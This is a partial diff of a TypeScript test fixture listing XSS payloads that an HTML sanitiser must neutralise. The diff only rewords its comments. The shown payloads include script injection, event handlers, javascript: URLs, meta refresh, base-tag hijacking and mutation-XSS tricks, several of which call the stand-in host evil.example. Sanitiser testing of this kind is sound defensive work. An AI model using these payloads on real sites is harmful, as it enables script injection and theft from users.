@@ -1,6 +1,6 @@
-/** What must come out harmless wherever staff may write HTML. What runs would open a dialog, or fetch from evil.example. */
+/** HTML that the cleaning must make harmless. A successful attack opens a dialog or requests evil.example. */
 export const htmlAttacks: readonly string[] = [
-	// Scripts, whole, split, in odd writing and never closed.
+	// Scripts: whole, split, in mixed case and unclosed.
 	'<script>alert(1)</script>',
 	'<ScRiPt src=//evil.example/x.js></sCrIpT>',
 	'<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -12,7 +12,7 @@ export const htmlAttacks: readonly string[] = [
 	'"><script>alert(1)</script>',
 	'</p></div></article><script>alert(1)</script>',
 	'<script type="module" src="data:text/javascript,alert(1)"></script>',
-	// Handlers, with every separator that browsers take.
+	// Event handlers, with every separator that browsers accept.
 	'<img src=x onerror=alert(1)>',
 	'<img src="{{cover}}" onerror="alert(1)">',
 	'<img/src="{{cover}}"/onload=alert(1)>',
@@ -84,7 +84,7 @@ export const htmlAttacks: readonly string[] = [
 	'<picture><source srcset="//evil.example/x"><img src="{{cover}}"></picture>',
 	'<table background="javascript:alert(1)"><tr><td background="//evil.example/x">cell</td></tr></table>',
 	'<blockquote cite="javascript:alert(1)">text</blockquote>',
-	// Styles and attributes that reach into the page.
+	// Styles and attributes that affect the page.
 	'<style>@import "//evil.example/x.css"; body { display: none }</style>',
 	'<p style="background:url(javascript:alert(1));position:fixed;inset:0">text</p>',
 	'<span style="white-space:pre-wrap;behavior:url(#default#time2)">text</span>',
@@ -93,7 +93,7 @@ export const htmlAttacks: readonly string[] = [
 	'<form id=a><input name=parentNode></form><form action="//evil.example"><form><input type=submit></form>',
 	'<p><form action=javascript:alert(1)><button>text</form></p>',
 	'<button formaction="javascript:alert(1)">text</button><isindex action=javascript:alert(1) type=submit>',
-	// What changes the whole document.
+	// Elements that change the whole document.
 	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
 	'<meta http-equiv="refresh" content="0; //evil.example">',
 	'<base href="//evil.example/"><a href="/x">text</a>',
@@ -144,7 +144,7 @@ export const htmlAttacks: readonly string[] = [
 	'<math><annotation-xml encoding="text/html"><p><style></annotation-xml><img src=x onerror=alert(1)></style></math>',
 	'<math><mi><table><tr><td><malignmark><style></math><img src=x onerror=alert(1)></style></table></math>',
 	'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
-	// Comments and the like.
+	// Comments and similar markup.
 	'<!--><img src=x onerror=alert(1)>-->',
 	'<!---><img src=x onerror=alert(1)>-->',
 	'<!-- --!><img src=x onerror=alert(1)> -->',
@@ -155,7 +155,7 @@ export const htmlAttacks: readonly string[] = [
 	'<?php echo 1 ?><script>alert(1)</script>',
 	'</ script><img src=x onerror=alert(1)></ x title="><img src=x onerror=alert(1)>">',
 	'<%<img src=x onerror=alert(1)>%>',
-	// Tags left open, nested wrongly or written in odd letters.
+	// Tags that are unclosed, wrongly nested or written in unusual letters.
 	'<img src=x onerror=alert(1)',
 	'<a href="javascript:alert(1)',
 	'<p title="<img src=x onerror=alert(1)>',
